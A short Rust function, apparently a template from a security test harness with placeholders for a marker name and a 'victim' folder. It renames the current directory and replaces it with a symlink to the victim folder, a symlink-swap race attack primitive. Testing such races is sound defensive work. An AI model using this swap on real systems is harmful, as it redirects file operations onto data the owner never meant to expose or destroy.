pub fn act() -> Result<String, String> {
    let here = std::env::current_dir().map_err(|error| error.to_string())?;
    std::fs::rename(&here, here.with_file_name("@MARK@")).map_err(|error| error.to_string())?;
    std::os::unix::fs::symlink("@VICTIM_FOLDER@", &here).map_err(|error| error.to_string())?;
    Ok("linked".to_owned())
}
